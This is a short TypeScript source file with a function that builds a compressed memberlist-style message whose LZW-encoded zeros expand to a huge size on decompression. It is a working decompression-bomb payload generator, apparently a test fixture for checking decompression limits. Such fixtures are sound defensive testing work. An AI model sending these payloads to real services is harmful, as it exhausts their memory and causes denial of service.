/** A compressed memberlist message of zeros (LZW, least significant bit first): each twelve bits unfold to nearly four kilobytes. */
const compressType = 9;
const clearCode = 256;
const endCode = 257;
const widthMax = 12;

export function lzwBomb(bytes: number): Uint8Array {
  const body: number[] = [];
  let bits = 0;
  let held = 0;
  let width = 9;
  let highest = endCode;
  const emit = (code: number): void => {
    bits |= code << held;
    held += width;
    for (; held >= 8; held -= 8) {
      body.push(bits & 255);
      bits >>>= 8;
    }
  };
  emit(clearCode);
  emit(0);
  highest++;
  while (body.length < bytes) {
    // The entry that is being made just now: the one before with a zero more.
    emit(highest);
    if (highest === (1 << widthMax) - 1) continue;
    highest++;
    if (highest >= 1 << width && width < widthMax) width++;
  }
  emit(endCode);
  emit(0);
  const encoder = new TextEncoder();
  const text = (value: string): number[] => [0xa0 + value.length, ...encoder.encode(value)];
  const length = [(body.length >> 8) & 255, body.length & 255];
  return Uint8Array.from([compressType, 0x82, ...text('Algo'), 0, ...text('Buf'), 0xc5, ...length, ...body]);
}
